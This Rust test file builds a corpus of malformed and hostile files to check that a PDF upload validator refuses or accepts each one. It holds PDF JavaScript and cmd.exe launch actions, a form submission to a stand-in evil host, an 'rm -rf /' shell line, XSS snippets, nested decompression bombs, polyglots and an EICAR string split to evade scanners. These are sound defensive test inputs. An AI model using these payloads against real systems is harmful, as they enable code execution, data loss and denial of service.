//! The corpus of documents, good, hostile, broken and strange, beside the rules that judge them.

use crate::support::scale;
use banyan::files::rules::{MAX_DOCUMENT, UploadRefusal, judge_pdf};
use std::fmt::Write as _;

/// A PDF around these objects.
pub(super) fn pdf(objects: &str) -> Vec<u8> {
    format!("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n{objects}\ntrailer\n<< /Root 1 0 R /Size 3 >>\nstartxref\n9\n%%EOF\n")
        .into_bytes()
}

pub(super) fn stream(dictionary: &str, bytes: &[u8]) -> Vec<u8> {
    let mut all = b"%PDF-1.7\n".to_vec();
    all.extend_from_slice(
        format!(
            "3 0 obj\n<< {dictionary} /Length {} >>\nstream\n",
            bytes.len()
        )
        .as_bytes(),
    );
    all.extend_from_slice(bytes);
    all.extend_from_slice(b"\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
    all
}

fn packed(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    packer.write_all(bytes).unwrap();
    packer.finish().unwrap()
}

/// Bytes that look like those of a picture, the same in every run.
pub(super) fn noise(length: usize) -> Vec<u8> {
    let mut state = 0x2027_u64;
    (0..length)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state.to_le_bytes()[3]
        })
        .collect()
}

type Case = (String, Vec<u8>, Option<UploadRefusal>);

pub(super) fn eicar() -> Vec<u8> {
    // In two pieces, so that no scanner finds it in this file.
    [
        "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-",
        "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    ]
    .concat()
    .into_bytes()
}

pub(super) fn active() -> Vec<Case> {
    let refused = Some(UploadRefusal::Active);
    let mut all: Vec<Case> = Vec::new();
    for (what, objects) in [
        (
            "script",
            "3 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj",
        ),
        (
            "script without spaces",
            "3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj",
        ),
        (
            "script at opening",
            "3 0 obj << /OpenAction << /S /JavaScript /JS (x) >> >> endobj",
        ),
        (
            "script by name tree",
            "3 0 obj << /Names << /JavaScript 4 0 R >> >> endobj",
        ),
        (
            "script in hexadecimal",
            "3 0 obj << /S /#4a#61#76#61#53#63#72#69#70#74 >> endobj",
        ),
        (
            "script half in hexadecimal",
            "3 0 obj << /S /J#61vaScr#69pt >> endobj",
        ),
        ("JS in hexadecimal", "3 0 obj << /S /X /J#53 (x) >> endobj"),
        ("JS by reference", "3 0 obj << /JS 4 0 R >> endobj"),
        ("JS as hexadecimal text", "3 0 obj << /JS <6170> >> endobj"),
        ("JS on a new line", "3 0 obj << /JS\n(x) >> endobj"),
        ("JS behind a comment", "3 0 obj << /JS%x\n(x) >> endobj"),
        (
            "JS in a rendition",
            "3 0 obj << /S/Rendition/JS(x) >> endobj",
        ),
        ("launch", "3 0 obj << /S /Launch /F (cmd.exe) >> endobj"),
        (
            "launch without spaces",
            "3 0 obj <</S/Launch/Win<</F(cmd.exe)>>>> endobj",
        ),
        (
            "embedded file",
            "3 0 obj << /Type /EmbeddedFile /Length 0 >> endobj",
        ),
        (
            "embedded files",
            "3 0 obj << /Names << /EmbeddedFiles 4 0 R >> >> endobj",
        ),
        ("rich media", "3 0 obj << /Subtype /RichMedia >> endobj"),
        (
            "form of another kind",
            "3 0 obj << /AcroForm << /XFA 4 0 R >> >> endobj",
        ),
        (
            "form that is sent",
            "3 0 obj << /S /SubmitForm /F (https://evil.example) >> endobj",
        ),
        (
            "data that is fetched",
            "3 0 obj << /S /ImportData /F (x) >> endobj",
        ),
        (
            "a document in the document",
            "3 0 obj << /S /GoToE /T << /R /C >> >> endobj",
        ),
    ] {
        all.push((what.to_owned(), pdf(objects), refused));
    }
    for at in [65_530, 65_531, 65_533, 65_535, 65_536, 131_070] {
        let mut bytes = b"%PDF-1.7\n".to_vec();
        bytes.resize(at, b' ');
        bytes.extend_from_slice(b"/JavaScript \n%%EOF\n");
        all.push((format!("script across the pieces at {at}"), bytes, refused));
    }
    all
}

pub(super) fn broken() -> Vec<Case> {
    let not = Some(UploadRefusal::NotPdf);
    let cut = Some(UploadRefusal::Truncated);
    let good = pdf("");
    let before = |prefix: &[u8]| [prefix, &good].concat();
    let mut all: Vec<Case> = vec![
        ("text".to_owned(), b"Dear committee".to_vec(), not),
        (
            "a page".to_owned(),
            b"<!doctype html><script>alert(1)</script>".to_vec(),
            not,
        ),
        (
            "a page, then a PDF".to_owned(),
            before(b"<script>alert(1)</script>\n"),
            not,
        ),
        (
            "an archive, then a PDF".to_owned(),
            before(b"PK\x03\x04\x14\x00"),
            not,
        ),
        ("a program".to_owned(), before(b"MZ\x90\x00"), not),
        (
            "a program of Linux".to_owned(),
            before(b"\x7fELF\x02\x01"),
            not,
        ),
        (
            "a script of a shell".to_owned(),
            before(b"#!/bin/sh\nrm -rf /\n"),
            not,
        ),
        ("a picture".to_owned(), before(b"\x89PNG\r\n\x1a\n"), not),
        (
            "a drawing".to_owned(),
            b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec(),
            not,
        ),
        (
            "a picture that is a script".to_owned(),
            before(b"GIF89a/*"),
            not,
        ),
        (
            "an office document".to_owned(),
            b"PK\x03\x04[Content_Types].xml".to_vec(),
            not,
        ),
        (
            "PostScript".to_owned(),
            b"%!PS-Adobe-3.0\n%%EOF\n".to_vec(),
            not,
        ),
        (
            "a mark of bytes first".to_owned(),
            before(b"\xef\xbb\xbf"),
            not,
        ),
        ("a space first".to_owned(), before(b" "), not),
        (
            "small letters".to_owned(),
            b"%pdf-1.7\n%%EOF\n".to_vec(),
            not,
        ),
        ("one byte".to_owned(), b"%".to_vec(), not),
        ("four bytes".to_owned(), b"%PDF".to_vec(), not),
        (
            "only a beginning".to_owned(),
            b"%PDF-1.7\n1 0 obj".to_vec(),
            cut,
        ),
        ("half".to_owned(), good[..good.len() / 2].to_vec(), cut),
        (
            "without its last line".to_owned(),
            good[..good.len() - 6].to_vec(),
            cut,
        ),
        (
            "its end far from its end".to_owned(),
            [good.clone(), vec![b'\n'; 4_096]].concat(),
            cut,
        ),
        (
            "locked".to_owned(),
            pdf("3 0 obj << /Encrypt 4 0 R >> endobj"),
            Some(UploadRefusal::Encrypted),
        ),
        (
            "locked in hexadecimal".to_owned(),
            pdf("3 0 obj << /#45ncrypt 4 0 R >> endobj"),
            Some(UploadRefusal::Encrypted),
        ),
        (
            "the test of scanners".to_owned(),
            stream("", &eicar()),
            Some(UploadRefusal::Infected),
        ),
        (
            "the test of scanners behind the end".to_owned(),
            [pdf(""), eicar()].concat(),
            Some(UploadRefusal::Infected),
        ),
        ("the test of scanners alone".to_owned(), eicar(), not),
    ];
    let mut late = b"%PDF-1.7\n".to_vec();
    late.resize(65_536 - 20, b' ');
    late.extend_from_slice(&eicar());
    late.extend_from_slice(b"\n%%EOF\n");
    all.push((
        "the test of scanners across the pieces".to_owned(),
        late,
        Some(UploadRefusal::Infected),
    ));
    let over = usize::try_from(MAX_DOCUMENT).unwrap() + 1;
    let mut huge = pdf("");
    let tail = huge.split_off(huge.len() - 6);
    huge.resize(over - 6, b' ');
    huge.extend_from_slice(&tail);
    all.push((
        "one byte too many".to_owned(),
        huge,
        Some(UploadRefusal::TooLarge),
    ));
    all
}

/// Strange, and harmless to a house that never opens them: taken, and given out as they came.
pub(super) fn strange() -> Vec<Case> {
    let deep = format!(
        "3 0 obj {}{} endobj",
        "[".repeat(20_000),
        "]".repeat(20_000)
    );
    let dictionaries = format!(
        "3 0 obj {}{} endobj",
        "<</A".repeat(20_000),
        ">>".repeat(20_000)
    );
    let mut many = String::new();
    for n in 3..5_000 {
        let _ = writeln!(many, "{n} 0 obj << /Parent {n} 0 R >> endobj");
    }
    let bomb = packed(&vec![0; 4_000_000]);
    let bombs = packed(&packed(&vec![0; 4_000_000]));
    let largest = {
        let mut bytes = stream("", &noise(usize::try_from(MAX_DOCUMENT).unwrap() - 4_096));
        bytes.truncate(usize::try_from(MAX_DOCUMENT).unwrap());
        bytes
    };
    let mut polyglot = pdf("");
    polyglot.extend_from_slice(b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0");
    vec![
        ("plain".to_owned(), pdf(""), None),
        (
            "a bomb".to_owned(),
            stream("/Filter /FlateDecode", &bomb),
            None,
        ),
        (
            "a bomb in a bomb".to_owned(),
            stream("/Filter [/FlateDecode /FlateDecode]", &bombs),
            None,
        ),
        (
            "a thousand filters".to_owned(),
            stream(
                &format!("/Filter [{}]", "/FlateDecode ".repeat(1_000)),
                b"x",
            ),
            None,
        ),
        ("brackets without end".to_owned(), pdf(&deep), None),
        (
            "dictionaries without end".to_owned(),
            pdf(&dictionaries),
            None,
        ),
        (
            "pages that are their own parents".to_owned(),
            pdf(&many),
            None,
        ),
        (
            "a table of objects that leads to itself".to_owned(),
            pdf("xref\n0 1\ntrailer << /Prev 9 /XRefStm 9 >>"),
            None,
        ),
        (
            "a length that is wrong".to_owned(),
            pdf("3 0 obj << /Length 99999999999999999999 >> stream\nx\nendstream endobj"),
            None,
        ),
        (
            "a length below nothing".to_owned(),
            pdf("3 0 obj << /Length -1 >> stream\nendstream endobj"),
            None,
        ),
        (
            "numbers beyond numbers".to_owned(),
            pdf("999999999999 65535 obj << /Count 1e999 >> endobj"),
            None,
        ),
        (
            "a name without end".to_owned(),
            pdf(&format!("3 0 obj << /{} >> endobj", "A".repeat(300_000))),
            None,
        ),
        (
            "a text without end".to_owned(),
            pdf(&format!("3 0 obj ({} endobj", "(".repeat(50_000))),
            None,
        ),
        (
            "a page of the web behind its end".to_owned(),
            [pdf(""), b"<script>alert(1)</script>".to_vec()].concat(),
            None,
        ),
        ("an archive behind its end".to_owned(), polyglot, None),
        (
            "two documents".to_owned(),
            [pdf(""), pdf("")].concat(),
            None,
        ),
        (
            "a page to begin with".to_owned(),
            pdf("3 0 obj << /OpenAction [2 0 R /Fit] >> endobj"),
            None,
        ),
        (
            "a link".to_owned(),
            pdf("3 0 obj << /S /URI /URI (https://example.org) >> endobj"),
            None,
        ),
        (
            "names that only begin like it".to_owned(),
            pdf("3 0 obj << /JavaScripts /JSX /Launcher /EncryptMetadata true >> endobj"),
            None,
        ),
        (
            "a text about JavaScript".to_owned(),
            pdf("3 0 obj (I write JavaScript and JS daily) endobj"),
            None,
        ),
        ("NUL".to_owned(), stream("", &[0; 10_000]), None),
        ("noise".to_owned(), stream("", &noise(200_000)), None),
        (
            "the largest".to_owned(),
            [largest[..largest.len() - 7].to_vec(), b"\n%%EOF\n".to_vec()].concat(),
            None,
        ),
    ]
}

pub(super) fn corpus() -> Vec<Case> {
    [active(), broken(), strange()].concat()
}

#[test]
fn every_document_of_the_corpus_is_taken_or_refused_as_the_rules_say() {
    let corpus = corpus();
    assert!(corpus.len() >= 75, "{}", corpus.len());
    for (what, bytes, refusal) in &corpus {
        let size = u64::try_from(bytes.len()).unwrap();
        let judged = judge_pdf(std::io::Cursor::new(bytes), size);
        assert_eq!(judged.err(), *refusal, "{what}");
    }
    // A source that never ends is read no further than its size was counted.
    let endless = judge_pdf(std::io::Cursor::new(b"%PDF-1.7"), u64::MAX);
    assert_eq!(endless, Err(UploadRefusal::TooLarge));
}

proptest::proptest! {
    #![proptest_config(crate::support::tables::seeded(27, u32::try_from(scale::of(200, 20_000)).unwrap()))]

    #[test]
    fn no_bytes_make_the_judge_fall(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..600), whole in proptest::prelude::any::<bool>()) {
        let bytes = if whole { [b"%PDF-".to_vec(), bytes, b"%%EOF".to_vec()].concat() } else { bytes };
        let size = u64::try_from(bytes.len()).unwrap();
        let judged = judge_pdf(std::io::Cursor::new(&bytes), size);
        proptest::prop_assert!(whole || judged.is_err());
    }
}
